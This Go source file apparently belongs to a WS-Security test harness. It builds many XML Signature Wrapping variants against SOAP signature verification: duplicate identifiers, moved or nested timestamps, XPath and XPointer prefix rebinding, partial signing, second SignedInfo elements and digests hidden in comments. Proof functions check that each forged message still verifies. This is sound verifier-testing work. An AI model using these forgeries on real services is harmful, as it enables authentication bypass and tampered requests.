package attack

import (
	"fmt"
	"strings"

	"wstrust/internal/wsse"
	"wstrust/internal/xmltree"
)

// resign replaces the message's signature by a handmade one over the same
// elements as they are now.
func (f *file) resign(key any, mod func(*handmade)) {
	sig := f.signature()
	h := handmade{key: key, keyInfo: string(child(sig, "KeyInfo").Standalone())}
	for r := range child(sig, "SignedInfo").Children {
		if r.Local() != "Reference" {
			continue
		}
		uri, _ := r.Attr("", "URI")
		for _, e := range f.all("") {
			if hasID(e, uri) {
				one := refTo(e)
				one.uri = uri
				h.refs = append(h.refs, one)
				break
			}
		}
	}
	if mod != nil {
		mod(&h)
	}
	f.replace(f.signature(), h.xml())
}

// w12 has one identifier on two elements.
func w12(w *world) []*attack {
	var shapes []shape
	for _, p := range places {
		shapes = append(shapes, shape{name: "same-id-" + p.name, do: func(f *file) {
			body := f.cut(f.at("Body"))
			f.into(f.doc.Root(), strings.ReplaceAll(body, goodScope, evilScope)) // with the same identifier
			p.put(f, body)
		}, off: dUniqueIDs | dPlace | dRequired, reads: "scope", class: classes(wsse.ClassWrapping)})
	}
	for _, spelling := range []string{"xml:id", "Id", "ID", "id", "AssertionID"} {
		shapes = append(shapes, shape{name: "as-" + strings.ReplaceAll(spelling, ":", "-"), do: func(f *file) {
			value := id(f.at("Body"))
			body := f.cut(f.at("Body"))
			f.into(f.doc.Root(), evilOf(body))
			f.attr(f.at("Body"), spelling+`="`+value+`"`)
			f.first(f.at("Header"), wrapper(body))
		}, off: dUniqueIDs | dPlace | dRequired, reads: "scope", class: classes(wsse.ClassWrapping)})
	}
	all := expandAll(w, "W12", shapes, "x509", "answer")
	for _, a := range all { // the double takes the identifier that leads to the original
		a.pick.lastID = strings.Contains(a.name, "inside-body") || strings.Contains(a.name, "same-id") && lastIsGood(a)
	}
	return all
}

func lastIsGood(a *attack) bool {
	file := a.file
	if file == nil {
		file = a.answer("urn:uuid:the-request")
	}
	return strings.LastIndex(string(file), goodScope) > strings.LastIndex(string(file), evilScope)
}

// w13 takes what was signed for another role, or what stands in its header.
func w13(w *world) []*attack {
	both := dPlace | dRequired
	shapes := []shape{
		{name: "timestamp-of-another-role-after", do: func(f *file) {
			stamp := f.cut(f.at("Header", "Security", "Timestamp"))
			f.first(f.security(), lateStamp(stamp))
			f.into(f.at("Header"), f.otherSecurity(stamp))
		}, off: both},
		{name: "timestamp-of-another-role-before", do: func(f *file) {
			stamp := f.cut(f.at("Header", "Security", "Timestamp"))
			f.first(f.security(), lateStamp(stamp))
			f.first(f.at("Header"), f.otherSecurity(stamp))
		}, off: both},
		{name: "timestamp-in-timestamp", do: func(f *file) {
			stamp := f.cut(f.at("Header", "Security", "Timestamp"))
			f.first(f.security(), strings.Replace(lateStamp(stamp), "</wsu:Timestamp>", stamp+"</wsu:Timestamp>", 1))
		}, off: both, class: classes(wsse.ClassFormat)},
		{name: "timestamp-in-token", do: func(f *file) {
			stamp := f.cut(f.at("Header", "Security", "Timestamp"))
			f.first(f.security(), lateStamp(stamp)+wrapper(stamp))
		}, off: both, class: classes(wsse.ClassPolicy)},
		{name: "timestamp-in-key-info", do: func(f *file) {
			stamp := f.cut(f.at("Header", "Security", "Timestamp"))
			f.first(f.security(), lateStamp(stamp))
			f.into(child(f.signature(), "KeyInfo"), stamp)
		}, off: both, class: classes(wsse.ClassWrapping)},
		{name: "whole-header-of-another-role", do: func(f *file) {
			sec := f.cut(f.security())
			evil := `<wsse:Security xmlns:wsse="` + xmltree.WSSE + `">` + lateStamp(string(child(parse([]byte(sec)).Root(), "Timestamp").Standalone())) + `</wsse:Security>`
			inner := open([]byte(sec))
			f.into(f.at("Header"), evil+f.otherSecurity(string(inner.src[strings.IndexByte(string(inner.src), '>')+1:len(inner.src)-len("</wsse:Security>")])))
		}, off: dOwnHeader | both, class: classes(wsse.ClassPolicy, wsse.ClassTrust, wsse.ClassSignature, wsse.ClassFormat)},
	}
	for i := range shapes {
		shapes[i].reads, shapes[i].value = "created", evilTime
		if shapes[i].class == nil {
			shapes[i].class = classes(wsse.ClassWrapping)
		}
		shapes[i].only = "request"
	}
	return expandAll(w, "W13", shapes, "x509", "hok")
}

// w14 names what is signed by a path, whose prefixes the attacker binds anew.
func w14(w *world) (out []*attack) {
	for _, v := range versions {
		for _, how := range []string{"xpointer", "xpath", "xpath-filter2"} {
			for _, where := range []string{"signature", "security"} {
				f := open(w.message(recipe{soap: v, signer: "x509", parts: everything}))
				ns := v.Namespace()
				payload := childAt(f.at("Body"), 0)
				path := "/s:Envelope/b:Body/" + payload.Prefix() + ":" + payload.Local()
				r := ref{digest: sha256Of(must(canon(payload, excC14N, nil, xmltree.Elem{})))}
				switch how {
				case "xpointer":
					r.uri = "#xpointer(" + path + ")"
				case "xpath":
					r.transforms = transform("http://www.w3.org/TR/1999/REC-xpath-19991116", `<ds:XPath>`+path+`</ds:XPath>`) + transform(excC14N)
				default:
					r.transforms = transform("http://www.w3.org/2002/06/xmldsig-filter2", `<xf:XPath xmlns:xf="http://www.w3.org/2002/06/xmldsig-filter2" Filter="intersect">`+path+`</xf:XPath>`) + transform(excC14N)
				}
				f.resign(w.client.signer, func(h *handmade) { h.refs = append(withoutBody(h.refs), r) })
				// Honest, b is bound to SOAP. The attacker binds it to something else.
				original := string(payload.Standalone())
				binding := `xmlns:b="urn:evil-prefix" xmlns:` + payload.Prefix() + `="` + payload.Space() + `" xmlns:s="` + ns + `"`
				f.text(f.at("Body"), strings.ReplaceAll(original, goodScope, evilScope))
				f.into(f.doc.Root(), `<x:Body xmlns:x="urn:evil-prefix">`+original+`</x:Body>`)
				if where == "signature" {
					f.attr(f.signature(), binding)
				} else {
					f.attr(f.security(), binding)
				}
				out = append(out, &attack{
					row: "W14", name: how + "-" + where + "-" + variant(v, "x509"), file: f.src, forged: "scope", at: atServer,
					off: dFragment | dTransforms | dShape | dPlace | dRequired, require: everything, class: classes(wsse.ClassAlgorithm, wsse.ClassFormat),
					proof: func() error { return w.proofOfPath(f, how) },
				})
			}
		}
	}
	for _, a := range out {
		if strings.HasPrefix(a.name, "xpointer") {
			a.off &^= dTransforms
		}
		a.off |= dNamed
	}
	return out
}

// withoutBody leaves the reference to the body out.
func withoutBody(refs []ref) (out []ref) {
	for _, r := range refs {
		if !strings.HasPrefix(r.uri, "#body") {
			out = append(out, r)
		}
	}
	return out
}

// proofOfPath shows that the signature is right when the path is followed with
// the attacker's prefixes.
func (w *world) proofOfPath(f *file, how string) error {
	c := readClaim(f.signature(), child(f.signature(), "SignedInfo"))
	if err := provenValue(c, w.honest()); err != nil {
		return err
	}
	last := c.refs[len(c.refs)-1]
	path := last.xpath
	if how == "xpointer" {
		path = strings.TrimSuffix(strings.TrimPrefix(last.uri, "#xpointer("), ")")
	}
	e := walk(f.doc.Root(), path, last.elem)
	if !e.OK() {
		return fmt.Errorf("the path %s leads nowhere", path)
	}
	octets, err := canon(e, excC14N, nil, xmltree.Elem{})
	if err != nil || !sameDigest(last, octets) {
		return fmt.Errorf("the digest of %s does not match", e.Path())
	}
	return nil
}

// w17 signs less than is needed, rightly.
func w17(w *world) (out []*attack) {
	for _, v := range versions {
		for _, signer := range []string{"x509", "rsa", "hok", "hok-sym"} {
			for name, c := range map[string]struct {
				parts wsse.Parts
				mod   func(*file)
			}{
				"timestamp-only":    {wsse.PartTimestamp, nil},
				"no-body":           {everything &^ wsse.PartBody, nil},
				"timestamp-and-to":  {wsse.PartTimestamp | wsse.PartTo, nil},
				"token-only":        {wsse.PartTimestamp | wsse.PartToken, nil},
				"unknown-header":    {wsse.PartTimestamp | wsse.PartMessageID, nil},
				"everything-but-it": {wsse.PartTimestamp | wsse.PartAddressing | wsse.PartToken, nil},
			} {
				f := open(w.message(recipe{soap: v, signer: signer, parts: c.parts}))
				f.swap(goodScope, evilScope)
				out = append(out, &attack{
					row: "W17", name: name + "-" + variant(v, signer), file: f.src, forged: "scope", off: dRequired | dNamed, require: everything,
					at: atServer, class: classes(wsse.ClassPolicy),
				})
			}
		}
	}
	return out
}

// w19to22 take SignedInfo, its digests and its references apart.
func w19to22(w *world) (out []*attack) {
	evilDigest := func(f *file) string { return b64(sha256Of(must(canon(f.at("Body"), excC14N, nil, xmltree.Elem{})))) }
	// evilBody changes the content of the body and keeps its identifier.
	evilBody := func(f *file) { f.swap(goodScope, evilScope) }
	bodyDigest := func(f *file) xmltree.Elem {
		for _, r := range f.all("Reference") {
			if uri, _ := r.Attr("", "URI"); strings.HasPrefix(uri, "#body") {
				return child(r, "DigestValue")
			}
		}
		panic("no reference to the body")
	}
	forgedInfo := func(f *file) string {
		d := bodyDigest(f)
		info := string(child(f.signature(), "SignedInfo").Standalone())
		return strings.Replace(info, loose(d), evilDigest(f), 1)
	}
	type variantOf struct {
		row, name string
		do        func(f *file)
		off       defence
		pick      pick
		class     []wsse.Class
	}
	list := []variantOf{
		{"W19", "second-in-front", func(f *file) { f.first(f.signature(), forgedInfo(f)) }, dSchema, pick{}, nil},
		{"W19", "second-behind", func(f *file) { f.after(f.at("Header", "Security", "Signature", "SignedInfo"), forgedInfo(f)) }, dSchema, pick{lastInfo: true}, nil},
		{"W19", "second-at-the-end", func(f *file) { f.into(f.signature(), forgedInfo(f)) }, dSchema, pick{lastInfo: true}, nil},
		{"W19", "second-in-key-info", func(f *file) { f.into(child(f.signature(), "KeyInfo"), forgedInfo(f)) }, dSchema, pick{lastInfo: true}, classes(wsse.ClassSignature)},
		{"W19", "original-in-object", func(f *file) {
			forged := forgedInfo(f)
			original := string(child(f.signature(), "SignedInfo").Standalone())
			f.replace(child(f.signature(), "SignedInfo"), forged)
			f.into(f.signature(), `<ds:Object xmlns:ds="`+xmltree.DS+`">`+original+`</ds:Object>`)
		}, dSchema, pick{}, classes(wsse.ClassSignature)},
		{"W19", "original-in-wrapper", func(f *file) {
			forged := forgedInfo(f)
			original := string(child(f.signature(), "SignedInfo").Standalone())
			f.replace(child(f.signature(), "SignedInfo"), forged+wrapper(original))
		}, dSchema, pick{}, nil},
		{"W20", "comment-before", func(f *file) { f.first(bodyDigest(f), "<!--"+evilDigest(f)+"-->") }, dDigestText, pick{}, nil},
		{"W20", "comment-after", func(f *file) { f.into(bodyDigest(f), "<!--"+evilDigest(f)+"-->") }, dDigestText, pick{}, nil},
		{"W20", "comment-inside", func(f *file) {
			from, _ := bodyDigest(f).ContentRange()
			f.put(from+5, from+5, "<!--"+evilDigest(f)+"-->")
		}, dDigestText, pick{}, nil},
		{"W20", "two-comments", func(f *file) { f.first(bodyDigest(f), "<!--"+evilDigest(f)+"--><!-- -->") }, dDigestText, pick{}, nil},
	}
	for _, c := range list {
		for _, v := range versions {
			for _, signer := range []string{"x509", "hok"} {
				f := open(w.message(recipe{soap: v, signer: signer, parts: everything}))
				evilBody(f)
				c.do(f)
				a := &attack{row: c.row, name: c.name + "-" + variant(v, signer), file: f.src, forged: "scope", off: c.off, pick: c.pick, require: everything, at: atServer, class: c.class}
				if a.class == nil {
					a.class = classes(wsse.ClassWrapping, wsse.ClassFormat)
				}
				body := f.at("Body")
				a.proof = func() error { return w.proofOfBoth(f, body) }
				out = append(out, a)
			}
		}
	}
	return append(out, w21and22(w, evilBody, evilDigest, bodyDigest)...)
}

// proofOfBoth shows that the file has a SignedInfo with the right signature
// value, and somewhere in the signature the right digest of the evil body.
func (w *world) proofOfBoth(f *file, body xmltree.Elem) error {
	sig := f.signature()
	var err error
	for _, info := range descendants(sig, "SignedInfo") {
		if err = provenValue(readClaim(sig, info), w.honest()); err == nil {
			break
		}
	}
	if err != nil {
		return err
	}
	want := b64(sha256Of(must(canon(body, excC14N, nil, xmltree.Elem{}))))
	if !strings.Contains(string(f.src), want) {
		return fmt.Errorf("the digest of the body is not there")
	}
	return nil
}

func w21and22(w *world, evilBody func(*file), evilDigest func(*file) string, bodyDigest func(*file) xmltree.Elem) (out []*attack) {
	value := func(f *file) string {
		return `<ds:DigestValue xmlns:ds="` + xmltree.DS + `">` + evilDigest(f) + `</ds:DigestValue>`
	}
	for name, put := range map[string]func(f *file){
		"header-first":   func(f *file) { f.first(f.at("Header"), wrapper(value(f))) },
		"security-first": func(f *file) { f.first(f.security(), value(f)) },
		"object": func(f *file) {
			f.first(f.signature(), `<ds:Object xmlns:ds="`+xmltree.DS+`">`+value(f)+`</ds:Object>`)
		},
		"other-security": func(f *file) { f.first(f.at("Header"), f.otherSecurity(value(f))) },
		"envelope":       func(f *file) { f.first(f.doc.Root(), value(f)) },
		"to":             func(f *file) { f.first(f.at("Header", "MessageID"), value(f)) },
	} {
		for _, v := range versions {
			f := open(w.message(recipe{soap: v, signer: "x509"}))
			// Only the body is referred to, so that one digest anywhere will do.
			f.resign(w.client.signer, func(h *handmade) { h.refs = []ref{refTo2(f)} })
			evilBody(f)
			put(f)
			a := &attack{
				row: "W21", name: name + "-" + variant(v, "x509"), file: f.src, forged: "scope", off: dSchema, pick: pick{digest: "anywhere"},
				require: wsse.PartBody, at: atServer, class: classes(wsse.ClassWrapping, wsse.ClassFormat, wsse.ClassSignature, wsse.ClassPolicy),
			}
			body := f.at("Body")
			a.proof = func() error { return w.proofOfBoth(f, body) }
			if name == "envelope" {
				a.off |= dShape
			}
			out = append(out, a)
		}
	}
	for _, v := range versions {
		for _, signer := range []string{"x509", "hok"} {
			// One reference is verified and the others are believed.
			for _, first := range []bool{true, false} {
				f := open(w.message(recipe{soap: v, signer: signer, parts: everything}))
				if first {
					evilBody(f)
				} else {
					f.swap(loose(f.at("Header", "Security", "Timestamp", "Created")), evilTime)
				}
				a := &attack{
					row: "W22", name: fmt.Sprintf("only-one-verified-%v-", map[bool]string{true: "first", false: "last"}[first]) + variant(v, signer), file: f.src, forged: "scope",
					off: dEveryRef, pick: pick{onlyFirst: first}, require: everything, at: atServer, class: classes(wsse.ClassSignature),
					exempt: "the point is a digest that does not match, in a reference that is not looked at",
				}
				if !first {
					a.forged, a.value = "created", evilTime
				}
				out = append(out, a)
			}
			// Two references to one element, so that a count comes out right.
			f := open(w.message(recipe{soap: v, signer: "x509", parts: everything}))
			f.resign(w.client.signer, func(h *handmade) {
				h.refs = append(withoutBody(h.refs), h.refs[0])
			})
			f.swap(goodScope, evilScope)
			if signer == "x509" {
				out = append(out, &attack{
					row: "W22", name: "one-element-twice-" + variant(v, signer), file: f.src, forged: "scope",
					off: dReferences | dRequired | dNamed, require: everything, at: atServer, class: classes(wsse.ClassWrapping),
				})
			}
		}
	}
	return out
}

// refTo2 is the reference to the body of a message that was not signed there.
func refTo2(f *file) ref {
	if id(f.at("Body")) == "" {
		f.attr(f.at("Body"), `xmlns:wsu="`+xmltree.WSU+`" wsu:Id="body-1"`)
	}
	return refTo(f.at("Body"))
}
